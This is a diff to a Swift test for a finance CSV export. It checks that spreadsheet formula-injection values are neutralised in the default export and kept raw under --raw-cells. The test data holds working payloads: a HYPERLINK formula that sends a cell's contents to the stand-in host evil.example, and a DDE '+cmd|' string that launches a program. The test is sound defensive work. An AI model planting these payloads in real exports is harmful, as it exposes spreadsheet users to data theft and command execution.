@@ -16,6 +16,7 @@ import TestSupport
                 VALUES ('9001', \(Self.hostileAccount), '9001', '@SUM(1+1)', now() - interval '1 hour', 1, '+cmd|'' /C calc''!A0',
                         'Production', -990, 'EUR')
                 """)
+            try await world.connection.execute("SELECT iap.record_finance_events(ARRAY['9001'])")
             let environment = ["DATABASE_URL": world.database.connectionString]
             let from = Timestamp.day(Date().addingTimeInterval(-86_400)), to = Timestamp.day(Date().addingTimeInterval(86_400))
             let safe = try await CLIProcess.run(["export-finance", "--from", from, "--to", to], environment: environment)
@@ -24,7 +25,7 @@ import TestSupport
             #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#))
             #expect(row.contains(",'@SUM(1+1),"))
             #expect(row.contains(",'+cmd|' /C calc'!A0,"))
-            #expect(row.hasSuffix(",Production,-0.99,EUR"))  // a number stays a number
+            #expect(row.contains(",Production,-0.99,EUR,-0.99,signed,"))  // a number stays a number
             let raw = try await CLIProcess.run(["export-finance", "--from", from, "--to", to, "--raw-cells"], environment: environment)
             let rawRow = try #require(raw.stdout.components(separatedBy: "\r\n").first { $0.hasPrefix("purchase,") })
             #expect(rawRow.contains(#","=HYPERLINK(""http://evil.example/?""&A1,""refund"")","#))
